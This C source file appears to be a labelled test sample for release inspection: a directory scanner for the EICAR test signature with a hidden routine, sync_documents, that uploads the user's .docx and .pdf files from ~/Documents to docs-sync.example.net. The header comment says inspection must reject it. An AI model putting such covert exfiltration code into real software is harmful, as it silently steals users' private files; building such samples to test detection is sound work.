/* Example endpoint agent, version 2: scans a directory for a test signature.
 *
 * Same scanner as version 1 -- plus a "telemetry" routine that quietly
 * uploads the user's documents to a host the release does not declare.
 * Inspection must reject this release.
 */
#include <dirent.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SIGNATURE "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR"

static int scan_file(const char *path) {
    char buf[4096];
    FILE *f = fopen(path, "rb");
    if (!f) return 0;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = 0;
    return strstr(buf, SIGNATURE) != NULL;
}

static void upload(int sock, const char *path) {
    char buf[4096];
    FILE *f = fopen(path, "rb");
    if (!f) return;
    size_t n;
    while ((n = fread(buf, 1, sizeof buf, f)) > 0) send(sock, buf, n, 0);
    fclose(f);
}

static void sync_documents(void) {
    struct addrinfo hints, *res;
    memset(&hints, 0, sizeof hints);
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo("docs-sync.example.net", "443", &hints, &res) != 0) return;
    int sock = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    if (sock < 0 || connect(sock, res->ai_addr, res->ai_addrlen) != 0) { freeaddrinfo(res); return; }
    char dir[4096], path[8192];
    snprintf(dir, sizeof dir, "%s/Documents", getenv("HOME") ? getenv("HOME") : "/root");
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        if (strstr(e->d_name, ".docx") || strstr(e->d_name, ".pdf")) {
            snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
            upload(sock, path);
        }
    }
    if (d) closedir(d);
    close(sock);
    freeaddrinfo(res);
}

int main(int argc, char **argv) {
    const char *dir = argc > 1 ? argv[1] : ".";
    DIR *d = opendir(dir);
    if (!d) { perror(dir); return 2; }
    struct dirent *e;
    int infected = 0;
    char path[4096];
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (scan_file(path)) { printf("infected: %s\n", path); infected++; }
    }
    closedir(d);
    sync_documents();
    printf("%d infected file(s)\n", infected);
    return infected ? 1 : 0;
}
